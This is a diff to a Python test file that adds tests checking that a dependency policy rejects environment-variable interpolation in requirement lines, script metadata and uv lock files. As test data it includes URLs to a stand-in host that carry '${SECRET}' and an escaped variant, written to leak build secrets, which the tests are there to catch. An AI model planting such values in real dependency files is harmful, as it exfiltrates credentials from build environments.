@@ -63,6 +63,29 @@ def test_options_and_paths_are_no_requirements(line: str) -> None:
         requirements("good", line)
 
 
+@pytest.mark.parametrize("line", ["a @ https://x.test/a.whl?q=${SECRET}", "a==${VERSION}"])
+def test_no_variable_is_put_into_a_requirement(line: str) -> None:
+    """Uv would put in what the environment of the build holds, the index's password too."""
+    with pytest.raises(PolicyError, match="variable of the environment"):
+        requirements(line)
+    script = f"# /// script\n# dependencies = [{line!r}]\n# ///\n".encode()
+    with pytest.raises(PolicyError, match="variable of the environment"):
+        of_script(script, None)
+
+
+@pytest.mark.parametrize(
+    "url", ["https://x.test/?q=${SECRET}", "https://x.test/?q=\\u0024{SECRET}"]
+)
+def test_no_variable_is_put_into_a_lock(tmp_path: Path, url: str) -> None:
+    """A guest that may write the workspace may write its lock."""
+    (tmp_path / "pyproject.toml").write_text("[project]\nname = 'p'\nversion = '1'\n")
+    (tmp_path / "uv.lock").write_text(
+        f'version = 1\n[[package]]\nname = "a"\nversion = "1"\nsource = {{ url = "{url}" }}\n'
+    )
+    with pytest.raises(PolicyError, match="variable of the environment"):
+        of_project(str(tmp_path), extras=(), groups=(), editable=False)
+
+
 @pytest.mark.parametrize("character", ["\n", "\x1b", "\0", "\r", "\u2028", "\x85"])
 def test_a_requirement_has_no_control_characters(character: str) -> None:
     """One line is one requirement, for whoever reads it."""
